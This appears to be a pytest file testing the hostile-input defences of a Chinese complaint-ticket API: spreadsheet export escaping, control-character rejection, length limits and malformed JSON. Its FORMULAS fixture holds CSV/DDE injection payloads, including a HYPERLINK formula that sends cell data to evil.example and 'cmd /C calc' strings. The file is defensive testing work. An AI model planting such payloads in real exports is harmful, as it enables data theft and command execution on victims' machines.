# ruff: noqa: F811 - pytest fixtures imported from test_api are parameters here
"""Hostile input to the tickets API on SQLite and PostgreSQL (issue 12 items 4, 5, 11, 14).

Formula text stays text in every export; control characters are refused at
input naming the field, and stripped at export when they were stored before
the checks; lengths come from the columns; malformed numbers, ids and JSON get
a 4xx in Chinese. The whole platform gets the same inputs in
tests/security/test_hostile_input.py.
"""

from __future__ import annotations

import csv
import io

from aiohttp import FormData
from openpyxl import load_workbook
from sqlalchemy import func, select, update
from test_api import PNG, _register, client, who  # noqa: F401 - client is the API fixture
from ticket_helpers import complaint

from core.inputs import TEXT_MAX_LENGTH
from tickets.models import Evidence, Ticket, TicketAction
from tickets.workflow import REGISTRATION_FIELDS

FORMULAS = {
    "complainant_name": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "complainant_org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "complainant_phone": "+8613912340001",
    "respondent_name": "-2+3+cmd|' /C calc'!A0",
}


BOUNDARY = "hostile-boundary-7d1a"


def multipart(filename: str, content: bytes, remark: str) -> bytes:
    """A multipart/form-data body with the file name exactly as given (percent signs and all)."""
    return (f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="remark"\r\n\r\n{remark}\r\n'
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n'
            f"Content-Type: image/png\r\n\r\n").encode() + content + f"\r\n--{BOUNDARY}--\r\n".encode()


def consult(**overrides) -> dict:
    """A consultation answered at registration: closed at once, so its archive form exists."""
    data = {"kind": "consult", "hotline": "12301", "complainant_phone": "13912340001",
            "description": "咨询退团费用", "answer": "=1+1 按合同约定退还"}
    data.update(overrides)
    return data


async def _export_rows(client, user: str = "agent") -> tuple[list[list[str]], list[tuple], object]:
    resp = await client.get("/api/tickets/export?format=csv", headers=who(user))
    assert resp.status == 200, await resp.text()
    csv_rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    resp = await client.get("/api/tickets/export?format=xlsx", headers=who(user))
    assert resp.status == 200, await resp.text()
    sheet = load_workbook(io.BytesIO(await resp.read())).active
    return csv_rows, list(sheet.iter_rows()), sheet


async def test_formula_text_stays_text_in_every_export(client):
    t = await client.post("/api/tickets", json=consult(**FORMULAS), headers=who("agent"))
    assert t.status == 201, await t.text()
    number = (await t.json())["number"]
    csv_rows, xlsx_rows, _ = await _export_rows(client)
    header = csv_rows[0]
    row = next(r for r in csv_rows if r[0] == number)
    cells = next(r for r in xlsx_rows if r[0].value == number)
    for key, column in (("complainant_name", "诉求方"), ("complainant_phone", "诉求方电话"),
                        ("respondent_name", "被诉方")):
        i = header.index(column)
        assert row[i] == "'" + FORMULAS[key]  # CSV: the apostrophe keeps it text
        cell = cells[i]
        assert cell.value == FORMULAS[key] and cell.data_type == "s" and cell.quotePrefix, key

    resp = await client.get(f"/api/tickets/{number}/archive?format=xlsx", headers=who("agent"))
    assert resp.status == 200, await resp.text()
    form = {r[0].value: r[1] for r in load_workbook(io.BytesIO(await resp.read())).active.iter_rows()
            if len(r) > 1 and r[1].value is not None}
    for label, text in (("姓名", FORMULAS["complainant_name"]), ("工作单位", FORMULAS["complainant_org"]),
                        ("联系方式", FORMULAS["complainant_phone"]), ("处理情况", "=1+1 按合同约定退还")):
        assert form[label].value == text and form[label].data_type == "s" and form[label].quotePrefix, label
    resp = await client.get(f"/api/tickets/{number}/archive?format=pdf", headers=who("agent"))
    assert resp.status == 200 and (await resp.read()).startswith(b"%PDF")


async def test_control_characters_are_refused_at_input_naming_the_field(client, db):
    for key, label in (("complainant_name", "诉求方姓名"), ("description", "诉求内容"),
                       ("respondent_name", "被诉方"), ("county", "案件归属地（区县）")):
        for bad in ("王\x00丽", "王\x1b[31m丽", "王\x7f丽"):
            resp = await client.post("/api/tickets", json=complaint(**{key: bad}), headers=who("agent"))
            assert resp.status == 400, (key, bad, await resp.text())
            assert await resp.json() == {"error": f"{label}含有不可见的控制字符，请删除后重试", "field": key}
    # A line break is a control character in a one-line field, ordinary text in a free-text one.
    resp = await client.post("/api/tickets", json=complaint(complainant_name="王\n丽"), headers=who("agent"))
    assert resp.status == 400 and (await resp.json())["field"] == "complainant_name"
    async with db.session() as session:
        assert await session.scalar(select(func.count()).select_from(Ticket)) == 0
    t = await _register(client, description="第一行\n第二行\t完")
    number = t["number"]
    assert t["description"] == "第一行\n第二行\t完"

    resp = await client.post(f"/api/tickets/{number}/actions", json={"action": "受理", "inputs": {"note": "已\x00联系"}},
                             headers=who("th_handler"))
    assert resp.status == 400
    assert await resp.json() == {"error": "受理说明含有不可见的控制字符，请删除后重试", "field": "note"}

    # Written by hand: aiohttp's client refuses to send a NUL, a hostile client does not.
    for name, remark, field in (("发票%00.png", "发票", "file"), ("发票\x1b.png", "发票", "file"),
                                ("发票.png", "说\x00明", "remark")):
        resp = await client.post(f"/api/tickets/{number}/evidence", data=multipart(name, PNG, remark),
                                 headers={**who("th_handler"), "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})
        assert resp.status == 400, await resp.text()
        assert (await resp.json())["field"] == field
    async with db.session() as session:
        assert await session.scalar(select(func.count()).select_from(Evidence)) == 0
        actions = (await session.scalars(select(TicketAction.action))).all()
    assert actions == ["登记"]


async def test_control_characters_stored_before_the_checks_do_not_break_exports(client, db):
    number = (await client.post("/api/tickets", json=consult(), headers=who("agent")))
    number = (await number.json())["number"]
    await _register(client)  # an ordinary ticket in the same export
    # Written straight into the database, as data from before the input checks would be. PostgreSQL
    # cannot hold NUL at all; SQLite can.
    nul = "\x00" if db.engine.dialect.name == "sqlite" else ""
    async with db.transaction() as session:
        await session.execute(update(Ticket).where(Ticket.number == number).values(
            complainant_name=f"王{nul}\x01丽\x1b", complainant_org="\t=1+1", respondent_name="\x0b\x0c\x7f被诉方",
            description=f"内容{nul}\x02有\x08控制字符"))
    for user in ("agent", "admin"):  # everyone whose scope includes the ticket
        csv_rows, xlsx_rows, _ = await _export_rows(client, user)
        header = csv_rows[0]
        row = next(r for r in csv_rows if r[0] == number)
        assert row[header.index("诉求方")] == "王丽"
        assert row[header.index("被诉方")] == "被诉方"
        cells = next(r for r in xlsx_rows if r[0].value == number)
        assert cells[header.index("诉求方")].value == "王丽"
        assert len(csv_rows) == len(xlsx_rows) == 3
    resp = await client.get(f"/api/tickets/{number}/archive?format=xlsx", headers=who("agent"))
    assert resp.status == 200, await resp.text()
    form = {r[0].value: r[1] for r in load_workbook(io.BytesIO(await resp.read())).active.iter_rows()
            if len(r) > 1 and r[1].value is not None}
    assert form["姓名"].value == "王丽" and form["咨询内容"].value == "内容有控制字符"
    # A tab at the start is one of the formula starts: still text.
    assert form["工作单位"].value == "\t=1+1" and form["工作单位"].data_type == "s" and form["工作单位"].quotePrefix
    resp = await client.get(f"/api/tickets/{number}/archive?format=pdf", headers=who("agent"))
    assert resp.status == 200 and (await resp.read()).startswith(b"%PDF")


def _length_limited_fields() -> list[tuple[str, str, int]]:
    columns = Ticket.__table__.c
    return [(f.key, f.label, columns[f.key].type.length) for f in REGISTRATION_FIELDS
            if f.kind == "text" and f.key in columns and getattr(columns[f.key].type, "length", None)
            and f.key not in ("kind", "hotline", "source")]


async def test_lengths_are_checked_at_the_api_with_the_column_lengths(client, db):
    limited = _length_limited_fields()
    assert {k for k, _, _ in limited} >= {"complainant_name", "complainant_phone", "respondent_name", "province"}
    assert dict((k, n) for k, _, n in limited)["complainant_name"] == 64
    for key, label, length in limited:
        resp = await client.post("/api/tickets", json=complaint(**{key: "长" * (length + 1)}), headers=who("agent"))
        assert resp.status == 400, (key, await resp.text())
        assert await resp.json() == {"error": f"{label}不能超过 {length} 个字符（现为 {length + 1} 个）", "field": key}
    resp = await client.post("/api/tickets", json=complaint(complainant_name="名" * 100_000), headers=who("agent"))
    assert resp.status == 400 and (await resp.json())["field"] == "complainant_name"
    resp = await client.post("/api/tickets", json=complaint(description="长" * (TEXT_MAX_LENGTH + 1)),
                             headers=who("agent"))
    assert resp.status == 400 and (await resp.json())["field"] == "description"
    async with db.session() as session:
        assert await session.scalar(select(func.count()).select_from(Ticket)) == 0
    # Exactly at the limit is kept whole, on both databases.
    t = await _register(client, complainant_name="名" * 64, respondent_name="被" * 128)
    async with db.session() as session:
        stored = await session.scalar(select(Ticket).where(Ticket.number == t["number"]))
    assert stored.complainant_name == "名" * 64 and stored.respondent_name == "被" * 128

    number = t["number"]
    resp = await client.post(f"/api/tickets/{number}/actions",
                             json={"action": "受理", "inputs": {"note": "说" * (TEXT_MAX_LENGTH + 1)}},
                             headers=who("th_handler"))
    assert resp.status == 400 and (await resp.json())["field"] == "note"
    resp = await client.post(f"/api/tickets/{number}/actions", json={"action": "受" * 10_000, "inputs": {}},
                             headers=who("th_handler"))
    assert resp.status == 400 and (await resp.json())["field"] == "action"
    form = FormData()
    form.add_field("file", PNG, filename="长" * 256 + ".png", content_type="image/png")
    resp = await client.post(f"/api/tickets/{number}/evidence", data=form, headers=who("th_handler"))
    assert resp.status == 400 and (await resp.json())["field"] == "file"


async def test_malformed_numbers_ids_and_json_get_a_4xx_in_chinese(client, db):
    number = (await _register(client))["number"]
    bad_registrations = {
        "amount": [1e100, "1e100", "1e15", -1, "NaN", True, {"x": 1}],
        "unit_id": [10**30, 2**31, -1, "abc", 1.5],
        "group_size": [10**30, 0, "2"],
        "call_ids": [["x" * 65], "abc", [10**30]],
    }
    for key, values in bad_registrations.items():
        for value in values:
            resp = await client.post("/api/tickets", json=complaint(**{key: value}), headers=who("agent"))
            assert resp.status == 400, (key, value, await resp.text())
            body = await resp.json()
            assert body["field"] == key and body["error"], (key, value)
    raw_bodies = [
        "[" * 100_000 + "]" * 100_000,  # deeper than the JSON parser's recursion
        '{"description": ' + "[" * 40 + "]" * 40 + "}",  # deeper than MAX_JSON_DEPTH
        '{"group_size": ' + "9" * 5000 + "}",  # an integer of more digits than Python parses
        '{"kind": "complaint", "complainant_name": "\\ud800"}',  # a lone surrogate
        '{"\\udfff": 1}',  # a lone surrogate in a key
    ]
    for raw in raw_bodies:
        resp = await client.post("/api/tickets", data=raw, headers={**who("agent"), "Content-Type": "application/json"})
        assert resp.status == 400, (raw[:60], await resp.text())
        assert (await resp.json())["error"]
    for path in ("/api/tickets?page=" + "9" * 30, "/api/tickets?page=99999999999", "/api/tickets?page_size=10000000000",
                 "/api/tickets?phone=%00", "/api/tickets?county=" + "区" * 100, "/api/tickets/export?city=%00",
                 f"/api/tickets/{number}/evidence/" + "9" * 18):
        resp = await client.get(path, headers=who("admin"))
        assert 400 <= resp.status < 500, (path, await resp.text())
        assert (await resp.json())["error"]
    resp = await client.post(f"/api/tickets/{number}/actions",
                             json={"action": "补充凭证", "inputs": {"evidence_ids": [10**30]}}, headers=who("th_handler"))
    assert resp.status == 400 and (await resp.json())["field"] == "evidence_ids"
    resp = await client.post(f"/api/tickets/{number}/actions", json={"action": "调解成功", "inputs": {}},
                             headers=who("th_handler"))
    assert resp.status == 409
    await client.post(f"/api/tickets/{number}/actions", json={"action": "受理", "inputs": {"note": "好"}},
                      headers=who("th_handler"))
    for inputs in ({"amount": "1e100", "closing_date": "2025-06-20", "remark": "x"},
                   {"amount": "10", "closing_date": "0001-01-01", "remark": "x"},
                   {"amount": "10", "closing_date": "9999-12-31", "remark": "x"}):
        resp = await client.post(f"/api/tickets/{number}/actions", json={"action": "调解成功", "inputs": inputs},
                                 headers=who("th_handler"))
        assert resp.status == 400, (inputs, await resp.text())
    async with db.session() as session:
        assert await session.scalar(select(func.count()).select_from(Ticket)) == 1
        assert (await session.scalar(select(Ticket.state).where(Ticket.number == number))).value == "accepted"
